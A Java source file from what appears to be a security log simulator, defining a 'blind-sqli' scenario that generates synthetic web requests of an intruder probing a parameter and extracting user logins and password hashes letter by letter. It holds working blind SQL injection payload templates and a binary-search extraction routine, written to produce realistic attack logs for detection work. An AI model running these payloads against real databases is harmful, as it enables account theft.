package org.evenkeel.simulator.scenario;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import org.evenkeel.simulator.chance.Dice;
import org.evenkeel.simulator.platform.Hole;
import org.evenkeel.simulator.scene.Deed;
import org.evenkeel.simulator.scene.Move;
import org.evenkeel.simulator.scene.Phase;
import org.evenkeel.simulator.store.Span;
import org.evenkeel.simulator.tale.Facts;
import org.evenkeel.simulator.tale.Guise;
import org.evenkeel.simulator.tale.Intruder;
import org.evenkeel.simulator.tale.Origin;
import org.evenkeel.simulator.tale.Pace;
import org.evenkeel.simulator.tale.Tale;

/// The database is asked one question of yes and no after the other, in addresses that the log
/// keeps.
final class BlindSql implements Scenario {
  @Override
  public String name() {
    return "blind-sqli";
  }

  @Override
  public String title() {
    return "Thousands of questions of yes and no read accounts out of the database.";
  }

  @Override
  public int days(Dice dice) {
    return dice.between(3, 12);
  }

  @Override
  public void play(Tale tale) {
    Dice dice = tale.dice();
    Hole hole = tale.hole(Hole.Kind.OPEN_SQL);
    Intruder robot = tale.intruder("A1", Origin.any(dice), Guise.any(dice), dice.between(1, 3));
    robot.goesTo(tale.moment(0.1 + 0.4 * dice.unit()));
    Deed probing = robot.tries(Phase.EXPLOIT, "tries whether " + hole.component() + " takes SQL");
    Questions questions = new Questions(dice, hole.use(dice, "{sql}").getFirst());
    for (String probe :
        List.of("1'", "1\"", "1 AND 1=1", "1 AND 1=2", "1' AND '1'='1", "1) AND (1=1")) {
      robot.does(probing, questions.raw(probe, dice.chance(0.6)), Pace.TOOL);
    }
    Deed reading = robot.succeeds(Phase.EXPLOIT, "reads the database letter by letter", 3);
    long first = robot.now() + 1;
    List<String> read = reads(tale, robot, reading, questions);
    Facts facts = tale.facts();
    facts.entry(reading, "sql-injection", "web", Facts.Sight.EXACT, "T1190");
    facts.through("CWE-89", List.of(hole));
    facts.exposes(
        new Facts.Exposed(
            "credentials",
            "R3",
            read.size(),
            new Span(first, robot.now() + 1),
            "read: " + String.join(", ", read),
            reading));
    facts.could("read-database", "A1", first, robot.now());
    facts.intruded("A1", first, robot.now());
  }

  /// What is read, as far as there is room.
  private static List<String> reads(Tale tale, Intruder robot, Deed reading, Questions questions) {
    int room = tale.scaled(9_000);
    List<String> read = new ArrayList<>();
    while (room > 0 && read.size() < 60) {
      String secret = secret(tale, read.size());
      for (int i = 0; i <= secret.length() && room > 0; i++) {
        int code = i < secret.length() ? secret.charAt(i) : 0;
        room -= questions.letter(robot, reading, new Letter(read.size(), i + 1, code));
      }
      if (room > 0) {
        read.add(secret);
      }
    }
    return read;
  }

  private static String secret(Tale tale, int number) {
    if (number < tale.store().staff().size()) {
      return tale.store().staff().get(number).login() + ":$2y$10$" + tale.dice().token(8);
    }
    return tale.dice().letters(6) + ":" + tale.dice().hex(10);
  }

  /// One letter that is asked for: of which row, at which place, and what it really is.
  private record Letter(int row, int place, int code) {}

  /// How one tool asks.
  private static final class Questions {
    private final Move form;
    private final int style;
    private final boolean packed;
    private final boolean plus;
    private final long yes;
    private final long no;

    Questions(Dice dice, Move form) {
      this.form = form;
      style = dice.below(3);
      packed = dice.chance(0.15);
      plus = dice.chance(0.4);
      yes = form.bytes() * dice.between(3, 60);
      no = form.bytes();
    }

    /// Finds one letter by halves; says how many requests it took.
    int letter(Intruder robot, Deed deed, Letter letter) {
      int low = 0;
      int high = 127;
      int asked = 0;
      while (low < high) {
        int middle = (low + high) / 2;
        boolean larger = letter.code > middle;
        robot.does(deed, raw(sql(letter, middle), larger), Pace.TOOL);
        asked++;
        low = larger ? middle + 1 : low;
        high = larger ? high : middle;
      }
      return asked;
    }

    private String sql(Letter letter, int middle) {
      String what =
          "SELECT CONCAT(login,0x3a,pass) FROM users ORDER BY id LIMIT %d,1".formatted(letter.row);
      return switch (style) {
        case 0 -> "1 AND ORD(MID((%s),%d,1))>%d".formatted(what, letter.place, middle);
        case 1 ->
            "1' AND ASCII(SUBSTRING((%s),%d,1))>%d-- %s".formatted(what, letter.place, middle, "x");
        default ->
            "1) AND (SELECT IF(ASCII(SUBSTR((%s),%d,1))>%d,1,0))=1 AND (1=1"
                .formatted(what, letter.place, middle);
      };
    }

    Move raw(String sql, boolean holds) {
      String value =
          packed ? Base64.getEncoder().encodeToString(sql.getBytes(StandardCharsets.UTF_8)) : sql;
      Move move =
          Move.call(
              form.method(), form.target().replace("{sql}", encoded(value)), 200, holds ? yes : no);
      return move.from("-");
    }

    private String encoded(String text) {
      StringBuilder out = new StringBuilder();
      for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
        char c = (char) b;
        if (Character.isLetterOrDigit(c) || "-._*()".indexOf(c) >= 0) {
          out.append(c);
        } else {
          out.append(c == ' ' && plus ? "+" : "%%%02X".formatted((int) c).toUpperCase(Locale.ROOT));
        }
      }
      return out.toString();
    }
  }
}
